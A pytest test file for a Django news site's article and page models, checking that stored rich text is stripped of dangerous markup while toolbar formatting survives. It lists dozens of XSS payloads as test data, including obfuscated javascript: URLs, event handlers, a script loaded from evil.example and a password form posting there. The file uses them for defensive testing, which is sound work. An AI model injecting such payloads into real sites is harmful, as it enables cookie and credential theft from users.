"""Stored rich text keeps what the editor's toolbar makes and loses everything dangerous.

Bodies are saved the way the site saves them: through Article.save / Page.save and the admin form.
"""

import pytest
from django.conf import settings

from articles.models import Article, Page
from tests.factories import ArticleFactory, AuthorFactory, EditorFactory, SectionFactory

pytestmark = pytest.mark.django_db

# (payload, text that must survive, fragments that must be gone), compared case-insensitively.
XSS_PAYLOADS = [
    ("<p>Safe<script>alert(1)</script></p>", "Safe", ["<script", "alert(1)"]),
    ("<p>Safe</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "Safe", ["script", "evil.example"]),
    ('<p>Safe</p><img src="/media/x.png" onerror="alert(1)">', "Safe", ["onerror", "alert"]),
    ('<p onclick="alert(1)" onmouseover="alert(2)">Safe</p>', "Safe", ["onclick", "onmouseover", "alert"]),
    ('<p>Safe</p><body onload="alert(1)">', "Safe", ["onload", "<body"]),
    ('<a href="javascript:alert(1)">Safe</a>', "Safe", ["javascript", "alert"]),
    ('<a href="JaVaScRiPt:alert(1)">Safe</a>', "Safe", ["javascript", "alert"]),
    ('<a href="jav&#x09;ascript:alert(1)">Safe</a>', "Safe", ["ascript", "alert"]),
    (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">Safe</a>',
        "Safe",
        ["alert"],
    ),
    ('<a href="  javascript:alert(1)">Safe</a>', "Safe", ["javascript", "alert"]),
    ('<a href="java\nscript:alert(1)">Safe</a>', "Safe", ["script:", "alert"]),
    ('<a href="javascript&colon;alert(1)">Safe</a>', "Safe", ["javascript", "alert"]),
    ('<a href="vbscript:msgbox(1)">Safe</a>', "Safe", ["vbscript", "msgbox"]),
    (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Safe</a>',
        "Safe",
        ["data:", "base64"],
    ),
    ('<p>Safe</p><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "Safe", ["data:", "<img"]),
    ('<p>Safe</p><img src="javascript:alert(1)">', "Safe", ["javascript", "<img"]),
    ("<p>Safe</p><svg><script>alert(1)</script></svg>", "Safe", ["<svg", "script", "alert"]),
    ('<p>Safe</p><svg onload="alert(1)"><circle r="1"/></svg>', "Safe", ["<svg", "onload", "circle"]),
    ('<p>Safe</p><iframe src="https://www.youtube.com/embed/x"></iframe>', "Safe", ["iframe", "youtube"]),
    (
        '<p>Safe</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "Safe",
        ["iframe", "srcdoc", "alert"],
    ),
    ('<p>Safe</p><object data="/x.swf"><embed src="/x.swf"></object>', "Safe", ["object", "embed", "swf"]),
    ('<p style="background:url(javascript:alert(1))">Safe</p>', "Safe", ["style", "javascript"]),
    ("<style>body{display:none}</style><p>Safe</p>", "Safe", ["<style", "display"]),
    ("<p>Safe</p><scr<script>ipt>alert(1)</scr</script>ipt>", "Safe", ["<script", "<scr"]),
    ('<p>Safe<img src="/media/x.png" onerror=alert(1)', "Safe", ["onerror", "alert"]),
    (
        '<p>Safe</p><form action="https://evil.example/"><input name="password"><button>Go</button></form>',
        "Safe",
        ["<form", "<input", "evil.example", "password"],
    ),  # fmt: skip
    (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Safe</p>',
        "Safe",
        ["<meta", "refresh"],
    ),
    ("<p>Safe<!-- <script>alert(1)</script> --></p>", "Safe", ["<!--", "alert"]),
    ('<p>Safe</p><base href="https://evil.example/">', "Safe", ["<base", "evil.example"]),
    ('<p>Safe</p><math><mtext><img src="/x" onerror="alert(1)"></mtext></math>', "Safe", ["math", "onerror"]),
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Safe</p>',
        "Safe",
        ["onerror"],
    ),
    ('<p>Safe</p><img src="https://tracker.example/pixel.gif" alt="">', "Safe", ["tracker.example", "<img"]),
    ('<p>Safe</p><img src="//tracker.example/pixel.gif">', "Safe", ["tracker.example"]),
    ('<p>Safe</p><img src="/\\tracker.example/pixel.gif">', "Safe", ["tracker.example"]),
    (
        '<figure class="media"><oembed url="javascript:alert(1)"></oembed></figure><p>Safe</p>',
        "Safe",
        ["javascript"],
    ),
    (
        '<p class="x" id="y" data-x="1">Safe</p><div>Wrapped</div>',
        "Safe",
        ["class=", "id=", "data-x", "<div"],
    ),
]


@pytest.mark.parametrize(("payload", "kept", "gone"), XSS_PAYLOADS)
def test_dangerous_markup_is_removed_when_a_story_is_saved(payload, kept, gone):
    story = ArticleFactory(body=payload)

    body = Article.objects.get(pk=story.pk).body
    assert kept in body
    for fragment in gone:
        assert fragment.lower() not in body.lower()
    # Cleaning is stable: saving the clean body again changes nothing.
    story.save()
    story.refresh_from_db()
    assert story.body == body


def test_admin_form_stores_the_cleaned_body(client):
    client.force_login(EditorFactory())
    section, author = SectionFactory(), AuthorFactory()
    data = {
        "title": "Cleaned",
        "slug": "cleaned",
        "section": section.pk,
        "body": '<p onclick="steal()">Kept text<script>document.cookie</script></p>'
        '<iframe src="https://evil.example/"></iframe><a href="jav&#x09;ascript:alert(1)">link</a>',
        "status": "draft",
        "article_authors-TOTAL_FORMS": "1",
        "article_authors-INITIAL_FORMS": "0",
        "article_authors-0-author": author.pk,
        "article_authors-0-position": "0",
    }

    response = client.post("/admin/articles/article/add/", data)

    assert response.status_code == 302
    body = Article.objects.get(slug="cleaned").body
    assert body == '<p>Kept text</p><a rel="noopener noreferrer">link</a>'


def test_standing_pages_are_cleaned_too():
    page = Page.objects.create(title="Help", slug="help", body='<p>Help<img src="/x.png" onerror="x()"></p>')
    page.refresh_from_db()
    assert page.body == '<p>Help<img src="/x.png"></p>'


EVERYTHING_THE_TOOLBAR_MAKES = (
    "<h2>A heading</h2>"
    "<h3>A smaller heading</h3>"
    "<p>Plain, <strong>bold</strong>, <i>italic</i>, <em>emphasis</em> and a "
    '<a href="https://example.com/report?page=2#top">link</a>, a '
    '<a href="/politics/budget-vote/">link on the site</a> and a '
    '<a href="mailto:desk@example.com">mail link</a>.<br>After a soft break.</p>'
    "<ul><li>First point</li><li>Second point</li></ul>"
    "<ol><li>Step one</li><li>Step two</li></ol>"
    "<blockquote><p>A quote from someone.</p></blockquote>"
    '<figure class="image">'
    '<img src="/media/uploads/photo.jpg" alt="A harbour at dawn" width="800" height="600">'
    "<figcaption>The harbour at dawn</figcaption></figure>"
    '<figure class="media"><oembed url="https://www.youtube.com/watch?v=abc123"></oembed></figure>'
)


def test_everything_the_toolbar_makes_survives():
    story = ArticleFactory(body=EVERYTHING_THE_TOOLBAR_MAKES)
    story.refresh_from_db()

    video = "https://www.youtube.com/watch?v=abc123"
    expected = EVERYTHING_THE_TOOLBAR_MAKES.replace(
        f'<oembed url="{video}"></oembed>',
        # Readers get a link to the video: the site loads nothing from its host.
        f'<oembed url="{video}"><a href="{video}">{video}</a></oembed>',
    )
    assert story.body.replace(' rel="noopener noreferrer"', "") == expected
    assert story.body.count('<a href="') == story.body.count('rel="noopener noreferrer"') == 4


def test_a_media_embed_keeps_one_link_however_often_it_is_saved():
    story = ArticleFactory(
        body='<figure class="media"><oembed url="https://vimeo.com/1?a=1&amp;b=2"></oembed></figure>'
    )
    for _ in range(2):
        story.save()
    story.refresh_from_db()

    assert story.body == (
        '<figure class="media"><oembed url="https://vimeo.com/1?a=1&amp;b=2">'
        '<a href="https://vimeo.com/1?a=1&amp;b=2" rel="noopener noreferrer">https://vimeo.com/1?a=1&amp;b=2</a>'
        "</oembed></figure>"
    )


def test_the_editors_own_extras_are_dropped_but_the_content_stays():
    # What CKEditor 5 adds to the toolbar's markup: list item ids and the image's aspect ratio.
    body = (
        '<ul><li data-list-item-id="e1f2">Point</li></ul>'
        '<figure class="image">'
        '<img style="aspect-ratio:4/3;" src="/media/a.png" alt="Alt" width="4" height="3">'
        "<figcaption>Caption</figcaption></figure>"
    )
    story = ArticleFactory(body=body)
    story.refresh_from_db()

    assert story.body == (
        '<ul><li>Point</li></ul><figure class="image"><img src="/media/a.png" alt="Alt" width="4" height="3">'
        "<figcaption>Caption</figcaption></figure>"
    )


def test_paste_from_word_keeps_only_the_words_and_structure():
    word = (
        '<p class=MsoNormal style="margin:0"><b><span style="font-family:Calibri;color:red">Bold</span></b>'
        "<o:p></o:p> text<![if !supportLists]>·<![endif]></p>"
        '<h4 style="mso-outline-level:4">Minor heading</h4>'
        '<table class=MsoTable><tr><td style="border:1px">Cell</td></tr></table>'
        '<p><font face="Arial" size="7"><u>Underlined</u></font> '
        '<span style="font-weight:700">Docs</span></p>'
    )
    story = ArticleFactory(body=word)
    story.refresh_from_db()

    assert story.body.startswith("<p><b>Bold</b> text")
    for words in ["Minor heading", "Cell", "<p>Underlined Docs</p>"]:
        assert words in story.body
    for markup in ["style", "class", "<span", "<font", "<u>", "<table", "<td", "<h4", "o:p", "<!"]:
        assert markup not in story.body


def test_pictures_on_the_sites_own_address_are_kept():
    src = f"{settings.SITE_URL}/media/uploads/photo.jpg"
    story = ArticleFactory(body=f'<p><img src="{src}" alt="Ours"></p>')
    story.refresh_from_db()
    assert f'src="{src}"' in story.body


def test_empty_body_stays_empty():
    story = ArticleFactory(body="")
    story.refresh_from_db()
    assert story.body == ""
